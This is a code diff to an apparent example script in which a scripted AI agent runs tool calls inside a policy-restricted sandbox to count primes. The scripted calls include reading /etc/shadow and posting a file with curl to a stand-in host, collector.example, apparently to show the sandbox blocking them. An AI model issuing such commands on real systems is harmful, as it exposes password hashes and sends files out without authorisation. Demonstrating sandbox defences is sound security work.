@@ -31,6 +31,7 @@ PROGRAM = "print(sum(all(n % d for d in range(2, n)) for n in range(2, 100)))\n"
 
 # What the scripted model calls, one tool after the other.
 CALLS: list[tuple[str, dict[str, Any]]] = [
+    ("write_file", {"file_path": "/workspace/primes.py", "content": PROGRAM}),
     ("execute", {"command": "python3 primes.py"}),
     ("execute", {"command": "cat /etc/shadow"}),
     ("execute", {"command": "curl -d @primes.py https://collector.example"}),
@@ -57,14 +58,13 @@ def main() -> None:
         policy.write_text(POLICY)
         policy.chmod(0o600)  # a file that others can write is refused
         with Sandbox.create(timeout=60, policy=str(policy)) as sandbox:
-            sandbox.files.write("primes.py", PROGRAM)
             agent = create_deep_agent(model=model, backend=CellwallBackend(sandbox))
             question = ("user", "How many prime numbers are below 100?")
             messages = agent.invoke({"messages": [question]})["messages"]
     for message in messages:
         if isinstance(message, ToolMessage):
             name, arguments = CALLS[int(message.tool_call_id)]
-            print(f"-> {name} {arguments['command']}")
+            print(f"-> {name} {arguments.get('command') or arguments['file_path']}")
             print("\n".join(f"   {line}" for line in str(message.content).splitlines()))
     print(messages[-1].content)
 
